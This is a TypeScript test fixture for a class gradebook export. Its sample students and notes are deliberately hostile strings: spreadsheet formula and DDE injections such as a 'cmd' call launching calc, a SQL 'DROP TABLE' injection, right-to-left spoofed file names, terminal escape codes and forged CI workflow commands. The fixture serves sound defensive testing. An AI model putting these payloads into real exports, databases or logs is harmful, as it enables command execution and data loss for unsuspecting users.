import type { GradedClass } from '../../src/class/exportModel.ts'
import type { Mark } from '../../src/class/gradebookModel.ts'
import type { Student } from '../../src/class/model.ts'
import { verdict } from './attempts.ts'

const student = (id: string, name: string, email: string, fields: Record<string, string> = {}): Student => ({ id, name, email, host: 'h', fields, line: 2 })

/** A mark for full points, unless more is said. */
export function mark(of: string, challenge: string, more: Partial<Mark> = {}): Mark {
  // Only a mark for which an attempt counts has one.
  const from = ['graded', 'partial'].includes(more.state ?? 'graded') ? { attempt: 7, at: '2026-11-22T10:00:00.000Z' } : {}
  return { student: of, challenge, state: 'graded', points: 5, maxPoints: 5, earned: 5, penalties: { late: 0, hints: 0 }, ...from, attempts: { made: 1, counted: 1 }, waived: [], late: false, notes: [], told: [], ...more }
}
const nothing = { points: 0, maxPoints: 0, earned: 0, attempts: { made: 1, counted: 0 } }
export const ERROR: Partial<Mark> = { ...nothing, state: 'error', notes: ['could not be judged: ssh: connect to host: timed out'] }
export const PARTIAL: Partial<Mark> = { state: 'partial', points: 0, earned: 0, notes: ['2 checks could not be judged'], told: ['2 checks could not be judged'] }
export const WAIVED: Partial<Mark> = { ...nothing, state: 'waived', notes: ['waived: was ill <b>for weeks</b>'] }

/** One of everything, and names that attack. */
export const evening: GradedClass = {
  className: 'Containers & <friends>, evening',
  at: '2026-11-22T20:00:00Z',
  challenges: [{ name: 'demo/tops', title: 'Three tops, "named" (3)', maxPoints: 5 }, { name: 'demo/limits', title: '=Final Score', maxPoints: 4 }, { name: 'other/tops', title: 'three Tops, "named" (3)', maxPoints: 1 }],
  students: [
    student('0123', 'Ada "The Countess" Lovelace, jr', 'ada@example.org', { 'canvas id': '42', 'SIS_User_ID': 'sis-1', section: 'Monday', github: 'ada', lti_user_id: 'b0f3-1' }),
    student('s2', '=HYPERLINK("http://example.org/?"&A1;"x")', '+s2@example.org'),
    student('s3', '\u202egnp.exe\u202c José\nNúñez;=1+1', 'jose@example.org', { 'canvas id': '12 or so', section: '@home' }),
    student('@s4', "\uff1dcmd|' /C calc'!A0", 's4@example.org', { github: '-rf' }),
    student('s5', 'Points Possible', 's5@example.org'),
    student('s6', "Robert'); DROP TABLE students;--", 's6@example.org'),
    student('王小明', '\t\u200e-2+3 王小明', 'xiaoming@example.org'),
    student('s8', 'عليّ \u0000\u001b[2J', 's8@example.org'),
  ],
  disclosed: new Map([[7, [verdict('tops', 'pass', { title: 'three tops' }), verdict('pids', 'fail', { title: 'each with a \u202epid of its own', message: 'not right yet', actual: ['=1+1', '::error::forged'], evidence: 'pid 7' })]]]),
  marks: [
    mark('0123', 'demo/tops'), mark('0123', 'demo/limits', { points: 2.5, maxPoints: 4, earned: 4, penalties: { late: 1, hints: 0.5 }, late: true }), mark('0123', 'other/tops', { points: 0, maxPoints: 1, earned: 0 }),
    mark('s2', 'demo/tops', { points: 3, maxPoints: 4, earned: 3, waived: ['pids'], notes: ['waived: pids: =1+1'], told: ['1 check waived'] }), mark('s2', 'demo/limits', WAIVED), mark('s2', 'other/tops', { points: 1, maxPoints: 1, earned: 1 }),
    mark('s3', 'demo/tops', ERROR), mark('s3', 'demo/limits', { points: 4, maxPoints: 4, earned: 4 }), mark('s3', 'other/tops', { points: 1, maxPoints: 1, earned: 1 }),
    mark('@s4', 'demo/tops', PARTIAL), mark('@s4', 'demo/limits', { points: 1 / 3, maxPoints: 4, earned: 1 / 3, notes: ['::error::forged ##[error]forged\n::stop-commands::x'], told: ['::error::forged ##[error]forged\n::stop-commands::x <b>for weeks</b>'] }),
    mark('s5', 'demo/tops', WAIVED), mark('s5', 'demo/limits', WAIVED), mark('s5', 'other/tops', { ...nothing, state: 'graded', waived: ['a'] }),
    mark('s6', 'demo/tops'), mark('s6', 'demo/limits', { points: 4, maxPoints: 4, earned: 4 }), mark('s6', 'other/tops', { points: 1, maxPoints: 1, earned: 1 }),
    mark('王小明', 'demo/tops', { points: 2, earned: 2 }),
  ],
}
